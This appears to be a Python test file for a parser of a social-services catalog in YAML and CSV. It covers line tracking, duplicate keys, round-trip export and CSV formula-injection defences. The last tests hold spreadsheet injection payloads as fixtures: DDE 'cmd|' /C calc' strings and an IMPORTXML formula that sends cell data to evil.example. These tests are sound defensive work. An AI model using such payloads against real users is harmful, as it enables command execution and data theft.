import csv
import gc
import io
from datetime import date

from catalog.format import (
    CatalogDocument,
    read_csv,
    read_document,
    read_yaml,
    write_csv,
    write_yaml,
)
from catalog.heap import FREEZE_AFTER, gc_paused

YAML = b"""\
version: 1
name: Test
updated: 2026-11-01
institutions:
  - id: mopr-siedlce
    name: MOPR
    place: miasto Siedlce
    geo: [52.1676, 22.2901]
    services:
      - id: mopr-zasilki
        name: Zasilki
        situations: [poverty, unemployment]
        ages: 18-
"""

CSV_HEADER = (
    "institution_id;institution_name;place;lat;lon;phones;service_id;service_name;situations"
)


def test_yaml_keeps_the_line_of_every_institution_service_and_key() -> None:
    raw = read_yaml(YAML)

    assert raw.line_of(("institutions", 0)) == 5
    assert raw.line_of(("institutions", 0, "services", 0)) == 10
    assert raw.line_of(("institutions", 0, "services", 0, "situations")) == 12
    assert raw.line_of(("institutions", 0, "services", 0, "situations", 1)) == 12
    assert raw.line_of(("institutions", 0, "services", 0, "nonexistent")) == 10


def test_yaml_with_a_bom_and_windows_line_ends_keeps_its_lines_and_values() -> None:
    windows = b"\xef\xbb\xbf" + YAML.replace(b"\n", b"\r\n").replace(
        b"MOPR", b"MOPR \xc5\x81\xc3\xb3d\xc5\xba"
    )

    raw = read_yaml(windows)

    assert raw.problems == ()
    assert raw.data == read_yaml(YAML.replace(b"MOPR", "MOPR Łódź".encode())).data
    assert raw.line_of(("institutions", 0, "services", 0, "situations")) == 12


def test_yaml_not_in_utf8_is_reported_as_such() -> None:
    raw = read_yaml("version: 1\nname: Łódź\n".encode("iso-8859-2"))

    assert [problem.code for problem in raw.problems] == ["catalog.not_utf8"]


def test_yaml_document_reads_into_the_models_with_dates_and_geo() -> None:
    document = CatalogDocument.model_validate(read_yaml(YAML).data)

    assert document.updated == date(2026, 11, 1)
    assert document.institutions[0].geo == (52.1676, 22.2901)
    assert document.institutions[0].services[0].ages == "18-"


def test_yaml_key_given_twice_is_reported_with_its_line() -> None:
    raw = read_yaml(b"version: 1\nname: A\nname: B\n")

    assert [(p.code, p.line, p.params["key"]) for p in raw.problems] == [
        ("catalog.duplicate_key", 3, "name")
    ]


def test_yaml_anchors_and_aliases_are_refused_with_their_line() -> None:
    aliased = read_yaml(b"base: &b\n  hours: 24/7\nother:\n  - x\n  - *b\n")
    undefined = read_yaml(b"version: 1\nname: *nowhere\n")

    assert aliased.data is None
    assert [(p.code, p.line, p.params["anchor"]) for p in aliased.problems] == [
        ("catalog.yaml_anchor", 1, "b")
    ]
    assert [(p.code, p.line) for p in undefined.problems] == [("catalog.yaml_anchor", 2)]


def test_yaml_second_document_is_a_syntax_problem_with_its_line() -> None:
    two = read_yaml(b"version: 1\n---\nversion: 1\n")

    assert [(p.code, p.line) for p in two.problems] == [("catalog.yaml_syntax", 2)]
    assert two.problems[0].params["detail"] == "but found another document"


def test_yaml_values_keep_their_types_and_keys_stay_text() -> None:
    raw = read_yaml(b"a: 1\nb: true\nc: 2026-11-01\nd: '1'\n1: x\nyes: y\n")

    assert raw.data == {"a": 1, "b": True, "c": date(2026, 11, 1), "d": "1", "1": "x", "yes": "y"}


def test_yaml_syntax_error_gives_the_line() -> None:
    raw = read_yaml(b"version: 1\nname: [unclosed\ninstitutions: []\n")

    assert raw.data is None
    assert raw.problems[0].code == "catalog.yaml_syntax"
    assert raw.problems[0].line == 3


def test_csv_with_semicolons_and_bom_groups_rows_into_institutions() -> None:
    text = "\n".join(
        [
            CSV_HEADER,
            "mopr;MOPR;miasto Siedlce;52,1676;22,2901;112;mopr-a;A;poverty; family",
            "mopr;MOPR;miasto Siedlce;52,1676;22,2901;112;mopr-b;B;housing",
            "pup;PUP;miasto Siedlce;;;;pup-a;C;unemployment",
        ]
    )
    # a cell with ';' inside must be quoted in a ';'-separated file
    text = text.replace("poverty; family", '"poverty; family"')

    raw = read_csv(b"\xef\xbb\xbf" + text.encode("utf-8"), filename="kus.csv")
    document = CatalogDocument.model_validate(raw.data)

    assert raw.problems == ()
    assert [i.id for i in document.institutions] == ["mopr", "pup"]
    assert [s.id for s in document.institutions[0].services] == ["mopr-a", "mopr-b"]
    assert document.institutions[0].services[0].situations == ["poverty", "family"]
    assert document.institutions[0].geo == (52.1676, 22.2901)
    assert document.name == "kus"
    assert raw.line_of(("institutions", 1, "services", 0)) == 4


def test_csv_with_commas_and_any_column_order() -> None:
    text = (
        "service_id,situations,service_name,place,institution_name,institution_id\n"
        "a,poverty;housing,Usługa,Polska,Inst,inst\n"
    )

    document = CatalogDocument.model_validate(read_csv(text.encode(), filename="x.csv").data)

    assert document.institutions[0].services[0].situations == ["poverty", "housing"]
    assert document.institutions[0].place == "Polska"


def test_csv_institution_columns_that_disagree_are_reported_on_the_later_row() -> None:
    text = "\n".join(
        [
            CSV_HEADER,
            "mopr;MOPR;miasto Siedlce;;;112;mopr-a;A;poverty",
            "mopr;MOPR Siedlce;miasto Siedlce;;;112;mopr-b;B;housing",
        ]
    )

    raw = read_csv(text.encode(), filename="kus.csv")

    assert [(p.code, p.line, p.params["column"], p.params["row"]) for p in raw.problems] == [
        ("catalog.csv_disagree", 3, "institution_name", 2)
    ]


def test_csv_missing_required_column_is_reported_once() -> None:
    raw = read_csv(
        b"institution_id,institution_name,place,service_id,service_name\n", filename="a.csv"
    )

    assert [(p.code, p.params["column"]) for p in raw.problems] == [
        ("catalog.csv_missing_column", "situations")
    ]


def test_file_kind_follows_the_name_then_the_content() -> None:
    assert read_document(YAML, filename="catalog.yaml").kind == "yaml"
    assert read_document(CSV_HEADER.encode(), filename="upload").kind == "csv"


def test_yaml_and_csv_exports_read_back_to_the_same_document() -> None:
    document = CatalogDocument.model_validate(read_yaml(YAML).data)

    from_yaml = CatalogDocument.model_validate(read_yaml(write_yaml(document).encode()).data)
    from_csv = CatalogDocument.model_validate(
        read_csv(write_csv(document).encode(), filename="x.csv").data
    )

    assert from_yaml == document
    assert from_csv == document
    assert from_csv.content_hash() == document.content_hash()


def test_empty_or_comment_only_yaml_is_reported_as_empty() -> None:
    assert [p.code for p in read_yaml(b"# nothing yet\n").problems] == ["catalog.empty_file"]
    assert [p.code for p in read_yaml(b"").problems] == ["catalog.empty_file"]


def test_collector_resumes_only_when_the_last_of_nested_pauses_ends() -> None:
    with gc_paused():
        with gc_paused():
            inner = gc.isenabled()
        between = gc.isenabled()
    after = gc.isenabled()

    assert (inner, between, after) == (False, False, True)


def test_objects_built_in_a_big_pause_are_kept_out_of_later_collections() -> None:
    frozen_before = gc.get_freeze_count()
    try:
        with gc_paused():
            kept = [[n] for n in range(FREEZE_AFTER + 1)]

        assert gc.get_freeze_count() >= frozen_before + len(kept)
    finally:
        gc.unfreeze()


FORMULA_YAML = b"""\
version: 1
name: Formuly
institutions:
  - id: mopr-siedlce
    name: "=HYPERLINK(\\"http://evil.example\\",\\"MOPR\\")"
    short_name: "@SUM(1+1)*cmd|' /C calc'!A0"
    address: "+SUM(1,2)"
    place: miasto Siedlce
    phones: ["+48 25 600 00 01"]
    services:
      - id: mopr-zasilki
        name: "-2+3+cmd|' /C calc'!A0"
        description: "\\t=IMPORTXML(CONCAT(\\"http://evil.example/?\\", A1), \\"//a\\")"
        situations: [poverty]
        ages: "-17"
"""


def test_csv_export_neutralises_cells_a_spreadsheet_would_run() -> None:
    document = CatalogDocument.model_validate(read_yaml(FORMULA_YAML).data)

    rows = list(csv.reader(io.StringIO(write_csv(document, delimiter=";")), delimiter=";"))

    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("http://evil.example","MOPR")' in cells
    assert "'+48 25 600 00 01" in cells


def test_csv_export_read_back_gives_the_same_values_and_no_warning() -> None:
    document = CatalogDocument.model_validate(read_yaml(FORMULA_YAML).data)

    raw = read_csv(write_csv(document, delimiter=";").encode(), filename="formuly.csv")

    assert raw.problems == ()
    again = CatalogDocument.model_validate(raw.data)
    assert again.institutions[0].name == document.institutions[0].name
    assert again.institutions[0].services[0].ages == "-17"
    assert again.institutions[0].phones == ["+48 25 600 00 01"]


def test_csv_import_warns_of_formula_cells_with_their_row() -> None:
    text = "\n".join(
        [
            CSV_HEADER,
            'mopr;=HYPERLINK("http://x");miasto Siedlce;;;+48 25 600 00 01;mopr-a;A;poverty',
            'mopr;=HYPERLINK("http://x");miasto Siedlce;;;+48 25 600 00 01;mopr-b;@cmd;poverty',
        ]
    )

    raw = read_csv(text.encode(), filename="kus.csv")

    assert [(p.code, p.line, p.params["column"], p.severity) for p in raw.problems] == [
        ("catalog.csv_formula", 2, "institution_name", "warning"),
        ("catalog.csv_formula", 3, "institution_name", "warning"),
        ("catalog.csv_formula", 3, "service_name", "warning"),
    ]
